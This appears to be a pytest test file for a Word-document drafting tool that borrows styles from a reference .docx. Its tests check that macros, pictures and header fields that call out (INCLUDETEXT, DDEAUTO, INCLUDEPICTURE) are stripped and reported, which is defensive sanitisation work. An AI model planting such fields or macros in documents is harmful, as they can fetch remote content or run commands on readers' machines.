def test_same_reference_same_bytes() -> None:
    data = packed(REFERENCES["three sections"])
    assert draft().write(reference=data) == draft().write(reference=data)


REPORT = """\
office.docx gives the look:
  title: learnt from paragraph 2
  byline: learnt from paragraph 3
  date: learnt from paragraph 4
  salutation: learnt from paragraph 5
  heading 一、: learnt from paragraph 7
  heading （一）: learnt from paragraph 9
  heading 1.: the standard look
  heading （1）: the standard look
  body text: learnt from paragraph 6
office.docx:2:1: warning: its sections differ; section 2 of 3 is taken, paragraphs 2 to 16; if another one is meant, make a reference of \
that one alone [reference-section]
office.docx:1:1: warning: the words in its headers and footers stay: 正文页眉; look whether they are right for this document \
[reference-header]
"""
PLAIN = "drafter: 1\nspeech: {title: 题, closing: [{id: a, say: 好。}]}\n"


@pytest.fixture
def desk(tmp_path: Path) -> Path:
    (tmp_path / "b.yaml").write_text(PLAIN, "utf-8")
    (tmp_path / "brief.yaml").write_text("blueprint: b.yaml\n", "utf-8")
    return tmp_path


def test_it_is_told_where_the_look_comes_from_and_which_section_is_taken(desk: Path) -> None:
    (desk / "office.docx").write_bytes(packed(REFERENCES["three sections"]))
    done = drafter(desk, "draft", "brief.yaml", "--reference", "office.docx")
    assert done.code == 0
    assert done.said.endswith(REPORT)


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("macros by another name", "macros of the reference document left out (1)"),
        (
            "fields that call home",
            "fields in its headers and footers are now text, or gone: INCLUDETEXT, DDEAUTO, INCLUDEPICTURE;",
        ),
        ("a picture in the header that is none", "pictures of the reference document left out (1)"),
    ],
)
def test_what_is_left_behind_is_told(name: str, said: str) -> None:
    assert [one for one in map(str, frame(name).problems) if said in one]
    assert {one.rule for one in frame(name).problems} <= {"reference-left", "reference-fields", "reference-header"}


@pytest.mark.parametrize("ending", ["dotx", "docm", "dotm", "docx"])
def test_templates_and_files_with_macros_are_references_too(desk: Path, ending: str) -> None:
    (desk / f"office.{ending}").write_bytes(packed(REFERENCES["macros by another name"]))
    done = drafter(desk, "draft", "brief.yaml", "--reference", f"office.{ending}", "-o", "out.docx")
    assert done.code == 0 and "[reference-left]" in done.said
    assert b"macroEnabled" not in parts((desk / "out.docx").read_bytes())["[Content_Types].xml"]


def test_a_style_named_for_a_role_goes_with_a_reference(desk: Path) -> None:
    done = drafter(desk, "draft", "brief.yaml", "--reference-style", "公文正文=body")
    assert done.code == 2 and "--reference-style goes with --reference" in done.said
    done = drafter(desk, "draft", "brief.yaml", "--reference", "b.yaml", "--reference-style", "正文")
    assert done.code == 2 and "正文 is not STYLE=ROLE" in done.said


def test_a_header_keeps_its_page_number_wherever_it_stands() -> None:
    assert xml(drafted("a text box with the page's number"), "word/header1.xml").count("> PAGE <") == 2
    mixed = xml(drafted("a header in tables, controls and tracked changes"), "word/header1.xml")
    assert (
        "> PAGE <" in mixed and "青石市" in mixed and "栏头" in mixed and "sdt" not in mixed and "w:ins " not in mixed
    )


def test_a_strict_document_is_a_reference_too() -> None:
    made = parts(packed(REFERENCES["three sections"]))
    old = (
        (W, "http://purl.oclc.org/ooxml/wordprocessingml/main"),
        (R, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, part in made.items():
            for before, after in old:
                part = part.replace(before.encode(), after.encode())
            package.writestr(name, part)
    assert draft().write(reference=buffer.getvalue(), final=True) == drafted("three sections")


def test_a_draft_of_ours_is_a_reference_too() -> None:
    told = framed(draft().write(final=True), "r.docx").sources
    assert {one.how for one in told} == {"style"} and [one.style for one in told][-1] == "Body Text"


def test_watching_takes_a_reference_too(desk: Path) -> None:
    (desk / "office.docx").write_bytes(packed(REFERENCES["styles of the office's own names"]))
    books = Library()
    wanted = Wanted(reference=frame_file(desk / "office.docx", books))
    anew = drafted_anew(desk / "brief.yaml", wanted, books, None)
    assert docx.Document(str(anew.done.target)).paragraphs[0].style.name == "公文标题"  # type: ignore[union-attr]
